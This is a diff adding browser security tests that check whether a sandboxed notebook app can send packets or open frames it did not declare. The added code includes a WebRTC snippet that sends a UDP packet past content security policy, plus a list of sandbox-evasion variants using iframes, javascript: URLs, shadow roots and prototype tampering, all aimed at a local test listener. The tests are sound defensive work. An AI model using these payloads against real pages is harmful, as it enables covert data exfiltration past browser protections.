@@ -1,5 +1,8 @@
 """An app that attacks: nothing of the user's gets out of its frame, and what floods is stopped with a line."""
 
+import json
+import select
+import socket
 import threading
 from collections.abc import Iterator
 from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
@@ -166,6 +169,84 @@ def test_no_request_leaves_the_page(open_notebook: Open, work: Path, stranger: L
     for name in ("fetch", "xhr", "socket", "events", "worker", "import"):
         expect(app.locator(f"#{name}")).to_contain_text("refused")
     expect(notebook.output(1)).to_contain_text("Blocked, since the app did not declare it")
+
+
+RTC = """(async () => {
+  const p = new RTCPeerConnection({ iceServers: [{ urls: "stun:ADDRESS" }] });
+  p.createDataChannel("x");
+  await p.setLocalDescription(await p.createOffer());
+})()"""
+"""Sends a packet to a stranger, which no content security policy forbids."""
+FRAME = "const f = document.createElement('iframe'); f.srcdoc = PAGE;"
+PREFIXED = FRAME.replace("Element('", "ElementNS(document.body.namespaceURI, 'x:")
+SHADOW = "`<div><template shadowrootmode=closed><iframe srcdoc='${PAGE}'></iframe></template></div>`"
+PEERS = {
+    "the page": "RTC",
+    "a frame": f"{FRAME} document.body.append(f); const end = Date.now() + 300; while (Date.now() < end);",
+    "a frame with a script as its address": f"{FRAME} f.removeAttribute('srcdoc'); f.src = `javascript:RTC`;"
+    " document.body.append(f);",
+    "a frame that is filled later": f"{FRAME} f.srcdoc = ''; document.body.append(f); await new Promise(setTimeout);"
+    " f.srcdoc = PAGE;",
+    "a frame with a prefix": f"{PREFIXED} document.body.append(f);",
+    "a closed shadow tree": f"{FRAME} const d = document.createElement('div'); document.body.append(d);"
+    " d.attachShadow({ mode: 'closed' }).append(f);",
+    "a copied shadow tree": f"{FRAME} const d = document.createElement('div');"
+    " d.attachShadow({ mode: 'open', clonable: true }); const c = d.cloneNode(true); document.body.append(c);"
+    " (c.shadowRoot ?? document.body).append(f);",
+    "a written shadow tree": f"document.write({SHADOW});",
+    "a parsed shadow tree": f"document.body.setHTMLUnsafe({SHADOW});",
+    "changed methods": "Array.prototype[Symbol.iterator] = function* () {}; Element.prototype.remove = () => {};"
+    f" Document.prototype.querySelectorAll = () => []; {FRAME} document.body.append(f);",
+}
+STATIC = """
+  <iframe srcdoc="<script>RTC</script>"></iframe><iframe src="javascript:RTC"></iframe>
+  <div><template shadowrootmode="closed"><iframe srcdoc="<script>RTC</script>"></iframe></template></div>
+"""
+
+
+@pytest.fixture
+def peer() -> Iterator[socket.socket]:
+    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as listener:
+        listener.bind(("0.0.0.0", 0))
+        yield listener
+
+
+def test_no_packet_leaves_the_page(open_notebook: Open, page: Page, work: Path, peer: socket.socket) -> None:
+    host = socket.gethostbyname(socket.gethostname())
+    rtc = RTC.replace("ADDRESS", f"{host}:{peer.getsockname()[1]}")
+    quoted = rtc.replace("\n", " ").replace('"', "&quot;")
+    script = f"await begin(); const PAGE = {json.dumps('<script>RTC</script>')}.replace('RTC', {json.dumps(rtc)});"
+    script = script.replace("</", "<\\/")
+    load = f"{LOAD}\n{apps.load(work / 'pages')}"
+    show: list[str] = []
+    for number, act in enumerate(["", *PEERS.values()]):
+        own = act.replace("RTC", rtc)
+        body = "" if act else STATIC.replace("RTC", quoted)
+        html = apps.page(f"{script} try {{ {own} }} catch (e) {{}} write('tried', 'yes');", body)
+        apps.write(work / "pages", f"p{number}", html)
+        show.append(f"mcp.apps.p{number}()")
+    notebook = open_notebook(load, *show)
+    notebook.run(0)
+    for index in range(1, len(show) + 1):
+        notebook.run(index)
+        expect(app_in(notebook, index).locator("#tried")).to_have_text("yes")
+    expect(notebook.output(3)).to_contain_text("Blocked, since the app did not declare it: about:srcdoc (frame-src)")
+    page.wait_for_timeout(500)  # that nothing comes cannot be waited for
+    assert not select.select([peer], [], [], 0)[0]
+    page.evaluate(rtc)
+    assert select.select([peer], [], [], 20)[0], "the listener can be reached, so nothing above was sent"
+
+
+def test_a_page_with_granted_frames_has_only_those(open_notebook: Open, page: Page, work: Path) -> None:
+    script = "await begin(); setTimeout(() => write('frames', document.querySelectorAll('iframe').length), 100);"
+    body = "<iframe src='https://data.example/'></iframe><iframe srcdoc='x'></iframe><iframe src='blob:x'></iframe>"
+    declared = {"csp": {"frameDomains": ["https://data.example"]}}
+    apps.write(work / "pages", "frames", apps.page(script, body), declared)
+    notebook = open_notebook(f"{LOAD}\n{apps.load(work / 'pages')}", "mcp.apps.frames()")
+    notebook.run(0)
+    notebook.run(1)
+    notebook.output(1).get_by_role("button", name="Allow").click()
+    expect(app_in(notebook, 1).locator("#frames")).to_have_text("1")
 
 
 ADD = "document.body.insertAdjacentHTML('beforeend', {});"
